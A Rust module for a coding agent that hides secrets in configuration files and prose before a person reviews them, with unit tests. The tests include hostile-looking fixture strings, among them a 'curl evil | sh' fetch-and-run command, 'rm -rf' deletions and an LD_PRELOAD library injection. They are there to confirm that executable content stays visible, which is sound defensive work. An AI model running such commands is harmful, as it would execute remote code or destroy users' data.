//! The text of a file as anybody may see it: without what is secret in it, as far as its name or its look tells.
//!
//! It is shown to a person who decides whether to trust it. So only values are left out, and no part of a program: the value
//! of a key that is called like a secret, what follows an option that is, a password in an address, and words that look
//! like keys.

use plaincall_agent::mcp::names_a_secret;

/// What stands in the place of a secret.
pub(super) type Hide = fn(&str) -> String;

/// Says that something is there.
pub(super) fn not_shown(_: &str) -> String {
    "(not shown)".to_owned()
}

/// Leaves each byte its place.
pub(super) fn starred(secret: &str) -> String {
    "*".repeat(secret.len())
}

/// How long a word is at least that begins like the keys of some service.
const SHORT_KEY: usize = 12;
/// From so many letters and digits on, without a sign between them, a word looks like a key.
const RUN: usize = 16;
/// From so many hexadecimal digits on, signs between them or not.
const HEXADECIMAL: usize = 32;

/// How the keys of services begin.
const BEGINNINGS: [&str; 14] = [
    "sk-",
    "sk_",
    "pk-",
    "rk_",
    "ghp_",
    "gho_",
    "ghs_",
    "github_pat_",
    "glpat-",
    "xox",
    "AKIA",
    "AIza",
    "hf_",
    "eyJ",
];

/// Values that say what kind of parameter something is.
const KINDS: [&str; 7] = [
    "string", "integer", "number", "boolean", "array", "object", "any",
];

/// A text of prose.
pub(super) fn prose(text: &str, hide: Hide) -> String {
    let text = without_passwords(text, hide);
    let mut shown = String::with_capacity(text.len());
    for piece in text.split_inclusive(|c| !is_of_word(c)) {
        let word = piece.trim_end_matches(|c| !is_of_word(c));
        let behind = piece.get(word.len()..).unwrap_or_default();
        if looks_like_a_key(word) {
            shown.push_str(&hide(word));
        } else {
            shown.push_str(word);
        }
        shown.push_str(behind);
    }
    shown
}

/// A text of TOML or JSON.
pub(super) fn settings(text: &str, hide: Hide) -> String {
    let mut shown = String::with_capacity(text.len());
    // The last key, and what stood before the present value in a list.
    let (mut key, mut before) = (String::new(), String::new());
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        let (token, behind) = match c {
            '#' => rest.split_at(rest.find('\n').unwrap_or(rest.len())),
            '"' | '\'' => literal(rest),
            c if is_of_key(c) => rest.split_at(rest.find(|c| !is_of_key(c)).unwrap_or(rest.len())),
            c => rest.split_at(c.len_utf8()),
        };
        rest = behind;
        let is_quoted = matches!(c, '"' | '\'');
        if !is_quoted && !is_of_key(c) {
            if matches!(c, '[' | '{' | '}' | '\n') && !before.starts_with('-') {
                before.clear();
            }
            shown.push_str(&if c == '#' {
                prose(token, hide)
            } else {
                token.to_owned()
            });
            continue;
        }
        let inside = if is_quoted { unquoted(token) } else { token };
        if behind
            .trim_start_matches([' ', '\t'])
            .starts_with(['=', ':', '.'])
        {
            inside.clone_into(&mut key);
            before.clear();
            shown.push_str(token);
        } else if is_quoted && is_single(token) && is_secret(&key, &before, inside) {
            let quote = token.get(..1).unwrap_or_default();
            shown.push_str(quote);
            shown.push_str(&hide(inside));
            shown.push_str(quote);
            before.clear();
        } else {
            shown.push_str(&argument(&prose(token, hide), hide));
            inside.clone_into(&mut before);
        }
    }
    shown
}

/// Whether a value is secret by the name of its key, or by the option before it in a list.
fn is_secret(key: &str, before: &str, value: &str) -> bool {
    let is_place = value.starts_with(['/', '~', '.']) && !value.contains(' ');
    let is_kind = KINDS.contains(&value.trim_end_matches('?'));
    let is_option = value.starts_with('-') && key == "args";
    let is_named = names_a_secret(key)
        || (before.starts_with('-') && names_a_secret(before) && !before.contains('='));
    is_named && !is_place && !is_kind && !is_option && !value.is_empty()
}

/// A value `NAME=secret` or `--name=secret` without the secret.
fn argument(token: &str, hide: Hide) -> String {
    let Some((name, value)) = token.split_once('=') else {
        return token.to_owned();
    };
    let is_name = |c: char| c.is_ascii_alphanumeric() || "-_\"'".contains(c);
    let end = value.trim_end_matches(['"', '\'']).len();
    let (value, quote) = value.split_at_checked(end).unwrap_or((value, ""));
    let is_word = !value.is_empty() && !value.contains(char::is_whitespace);
    if names_a_secret(name)
        && name.chars().all(is_name)
        && is_word
        && !value.starts_with(['/', '~', '.'])
    {
        format!("{name}={}{quote}", hide(value))
    } else {
        token.to_owned()
    }
}

/// The text without what stands before `@` in addresses, and without the secrets in their queries.
fn without_passwords(text: &str, hide: Hide) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, behind)) = rest.split_once("://") {
        shown.push_str(before);
        shown.push_str("://");
        let is_end = |c: char| c.is_whitespace() || "\"'<>`()".contains(c);
        let (address, behind) = behind.split_at(behind.find(is_end).unwrap_or(behind.len()));
        rest = behind;
        let host_end = address.find(['/', '\\', '?', '#']).unwrap_or(address.len());
        let (host, path) = address.split_at(host_end);
        match host.rsplit_once('@') {
            Some((user, host)) => shown.extend([&hide(user), "@", host]),
            None => shown.push_str(host),
        }
        for (place, part) in path.split(['?', '&']).enumerate() {
            if place > 0 {
                shown.push(if place == 1 { '?' } else { '&' });
            }
            match part.split_once('=') {
                Some((name, value)) if place > 0 && names_a_secret(name) => {
                    shown.extend([name, "=", &hide(value)]);
                }
                _ => shown.push_str(part),
            }
        }
    }
    shown.push_str(rest);
    shown
}

/// A quoted text at the beginning, with its quotes, and what is behind it.
fn literal(text: &str) -> (&str, &str) {
    let quote = text.get(..1).unwrap_or_default();
    let triple = quote.repeat(3);
    let (open, is_multiline) = if text.starts_with(&triple) {
        (triple.as_str(), true)
    } else {
        (quote, false)
    };
    let mut at = open.len();
    while let Some(rest) = text.get(at..).filter(|rest| !rest.is_empty()) {
        if rest.starts_with(open) {
            at += open.len();
            break;
        }
        let c = rest.chars().next().unwrap_or_default();
        if c == '\n' && !is_multiline {
            break;
        }
        at += c.len_utf8();
        if c == '\\' && quote == "\"" {
            at += text
                .get(at..)
                .and_then(|rest| rest.chars().next())
                .map_or(0, char::len_utf8);
        }
    }
    text.split_at(at.min(text.len()))
}

fn unquoted(token: &str) -> &str {
    token.trim_matches(|c| c == '"' || c == '\'')
}

fn is_single(token: &str) -> bool {
    !token.starts_with("\"\"\"") && !token.starts_with("'''")
}

fn is_of_key(c: char) -> bool {
    c.is_alphanumeric() || matches!(c, '_' | '-')
}

fn is_of_word(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '+')
}

/// Whether a word is the key of some service, or a text of chance.
fn looks_like_a_key(word: &str) -> bool {
    let word = word.trim_matches(['.', '-', '+']);
    let begins_so = BEGINNINGS.iter().any(|begin| word.starts_with(begin));
    let is_mixed = |run: &str| {
        run.contains(|c: char| c.is_ascii_digit())
            && run.contains(|c: char| c.is_ascii_alphabetic())
    };
    let is_run = |run: &str| run.len() >= RUN && is_mixed(run);
    let digits = word.chars().filter(char::is_ascii_hexdigit).count();
    let is_hexadecimal =
        digits >= HEXADECIMAL && word.chars().all(|c| c.is_ascii_hexdigit() || c == '-');
    begins_so && word.len() >= SHORT_KEY
        || word.split(['-', '.', '_', '+']).any(is_run)
        || is_hexadecimal && is_mixed(word)
}

#[cfg(test)]
mod tests {
    use super::{not_shown, prose, settings, starred};

    #[test]
    fn settings_without_secrets() {
        for (text, expected) in [
            (
                "model = 'claude-sonnet-4-5-20250929'",
                "model = 'claude-sonnet-4-5-20250929'",
            ),
            (
                "env = { API_KEY = \"tulip\" }",
                "env = { API_KEY = \"(not shown)\" }",
            ),
            ("env.API_KEY = 'tulip'", "env.API_KEY = '(not shown)'"),
            (
                "[mcp.servers.x.headers]\nAuthorization = \"Bearer tulip\"",
                "[mcp.servers.x.headers]\nAuthorization = \"(not shown)\"",
            ),
            (
                "\"x-token\" = 'a\\'\nb = 1",
                "\"x-token\" = '(not shown)'\nb = 1",
            ),
            (
                r#"{"env": {"PASSWORD": "tu\"lip", "MODE": "x"}}"#,
                r#"{"env": {"PASSWORD": "(not shown)", "MODE": "x"}}"#,
            ),
            (
                r#"{"Authorization":"Bearer \u0074ulip"}"#,
                r#"{"Authorization":"(not shown)"}"#,
            ),
            (
                "args = ['--api-key', 'tulip', 'x']",
                "args = ['--api-key', '(not shown)', 'x']",
            ),
            (
                "args = [\n  '--api-key',\n  'tulip',\n]",
                "args = [\n  '--api-key',\n  '(not shown)',\n]",
            ),
            (
                "args = ['--token=tulip', '-v']",
                "args = ['--token=(not shown)', '-v']",
            ),
            (
                "command = ['env', 'TOKEN=tulip', 'x']",
                "command = ['env', 'TOKEN=(not shown)', 'x']",
            ),
            (
                "url = 'https://me:tulip@a.example/v1?api_key=rose&q=x'",
                "url = 'https://(not shown)@a.example/v1?api_key=(not shown)&q=x'",
            ),
            ("# sk-proj-1234567890abc\na = 1", "# (not shown)\na = 1"),
            ("x = 'AKIAIOSFODNN7EXAMPLE'", "x = '(not shown)'"),
            ("x = 'ghp_16C7e42F292c6912E7'", "x = '(not shown)'"),
            (
                "x = '6f9619ff-8b86-d011-b42d-00cf4fc964ff'",
                "x = '(not shown)'",
            ),
            // What is no secret stays, and above all what is run.
            ("key_file = '/home/me/key'", "key_file = '/home/me/key'"),
            (
                "parameters = { key = 'string', token = 'integer?' }",
                "parameters = { key = 'string', token = 'integer?' }",
            ),
            (
                "env = { LD_PRELOAD = '/tmp/x.so' }",
                "env = { LD_PRELOAD = '/tmp/x.so' }",
            ),
            (
                "shell = 'KEY=\"$(curl evil | sh)\" x'",
                "shell = 'KEY=\"$(curl evil | sh)\" x'",
            ),
            (
                "shell = '''\nKEY='a b' rm -rf x\n'''",
                "shell = '''\nKEY='a b' rm -rf x\n'''",
            ),
            (
                "command = ['sh', '-c', 'rm -rf x']",
                "command = ['sh', '-c', 'rm -rf x']",
            ),
            ("max_tokens = 8192", "max_tokens = 8192"),
            (
                "a = 'https://a.example/v1?q=x'",
                "a = 'https://a.example/v1?q=x'",
            ),
            (
                "# don't\nb = 'it''s' # isn't it\nc = 'x86_64-unknown-linux-gnu'",
                "# don't\nb = 'it''s' # isn't it\nc = 'x86_64-unknown-linux-gnu'",
            ),
        ] {
            assert_eq!(settings(text, not_shown), expected, "{text}");
            assert_eq!(settings(text, starred).len(), text.len(), "{text}");
        }
    }

    #[test]
    fn prose_without_secrets() {
        for (text, expected) in [
            (
                "Don't say \"hello\".\nThe key is: here.",
                "Don't say \"hello\".\nThe key is: here.",
            ),
            (
                "Use sk-proj-1234567890abc, please.",
                "Use (not shown), please.",
            ),
            (
                "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ",
                "ssh-rsa (not shown)",
            ),
            (
                "postgres://me:tulip@host/name",
                "postgres://(not shown)@host/name",
            ),
            (
                "-----BEGIN KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC/x\n",
                "-----BEGIN KEY-----\n(not shown)/x\n",
            ),
        ] {
            assert_eq!(prose(text, not_shown), expected, "{text}");
            assert_eq!(prose(text, starred).len(), text.len(), "{text}");
        }
    }
}
